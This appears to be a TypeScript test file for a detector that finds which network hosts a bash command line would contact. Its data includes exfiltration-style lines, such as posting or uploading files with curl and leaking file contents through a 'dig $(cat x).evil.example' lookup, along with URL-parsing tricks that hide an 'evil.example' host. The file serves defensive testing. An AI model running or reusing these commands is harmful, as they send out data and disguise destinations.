import assert from "node:assert/strict";
import { findOutgoingHosts } from "../../../../src/safety/provenance/hosts.ts";
import { readerOf } from "../readers.ts";

/** Lines with the hosts they name; "?" where they hide one. */
const LINES: readonly (readonly [line: string, told: readonly string[]])[] = [
  ["curl https://A.example/x", ["a.example"]],
  ["curl -d @x 'http://u:p@b.example:8080/?q=1#f'", ["b.example"]],
  ["wget c.example/x.tar.gz", ["c.example"]],
  ["ping 10.0.0.1", ["10.0.0.1"]],
  ["ssh git@d.example", ["d.example"]],
  ["scp x u@e.example:/tmp", ["e.example"]],
  ["curl http://[::1]:80/", ["[::1]"]],
  ["curl localhost:3000", ["localhost"]],
  ["git clone https://f.example/r.git", ["f.example"]],
  ["git push git@g.example:r.git", ["g.example"]],
  ["npm i --registry=https://h.example", ["h.example"]],
  ["HTTPS_PROXY=http://i.example npm i", ["i.example"]],
  ["ls | xargs curl -T - ftp://j.example", ["j.example"]],
  ["bash -c 'curl k.example'", ["k.example"]],
  ["sudo curl https://l.example", ["l.example"]],
  ["curl a.example b.example", ["a.example", "b.example"]],
  ["curl 'http://evil.example#@a.example/'", ["evil.example", "a.example"]],
  ["curl 'http://evil.example?@a.example/'", ["evil.example", "a.example"]],
  ["curl 'http://evil.example\\@a.example/'", ["evil.example", "a.example"]],
  [`curl 'http://a.example:${"x".repeat(300)}@evil.example/'`, ["evil.example"]],
  [`curl "http://a.example'@evil.example/"`, ["evil.example", "a.example"]],
  ["curl --resolve a.example:80:10.0.0.1 http://a.example", ["a.example", "10.0.0.1"]],
  ["curl --connect-to ::evil.example:80 http://a.example", ["a.example", "evil.example"]],
  ["curl a.example http:/evil.example", ["a.example", "?"]],
  ["curl a.example 2130706433", ["a.example", "?"]],
  ["curl -K list a.example", ["a.example", "?"]],
  ["curl http://a.example.:80/", ["a.example."]],
  ["curl http://xn--vil-5cd.example/", ["xn--vil-5cd.example"]],
  ["curl $URL", ["?"]],
  ["curl https://a.example/$(cat x)", ["a.example", "?"]],
  ["nc -l 80", ["?"]],
  ["dig $(cat x).evil.example", [".evil.example", "?"]],
  ["xargs curl < urls.txt", ["?"]],
  ["curl", []],
  ["curl --version", []],
  ["npm test", []],
  ["cat notes.example", []],
  ["echo see https://m.example", ["m.example"]],
];

describe("where a command line would send something", () => {
  for (const [line, told] of LINES)
    it(`is found in ${line}`, async () => {
      const reading = (await readerOf("bash")).read(line);
      assert.equal(reading.kind, "script");
      if (reading.kind !== "script") return;
      const { hosts, isHidden } = findOutgoingHosts(reading);
      const [named, hidden] = [told.filter((host) => host !== "?"), told.includes("?")];
      assert.deepEqual(
        [hosts.filter((host) => !host.startsWith("\0")), isHidden],
        [named.filter((host) => !host.startsWith(".")), hidden],
      );
    });

  it("is found where a program sends to a host of its own settings", async () => {
    const reader = await readerOf("bash");
    const sends = (line: string): boolean => {
      const reading = reader.read(line);
      return reading.kind === "script" && findOutgoingHosts(reading).sends;
    };
    const lines = ["git push", "git -C x push origin", "npm publish", "bash -c 'gh gist create a'", "docker push x"];
    const others = ["git commit -m 'push it'", "npm test", "docker ps", "gh --version", "make push"];
    assert.deepEqual([lines.filter(sends), others.filter(sends)], [lines, []]);
  });
});
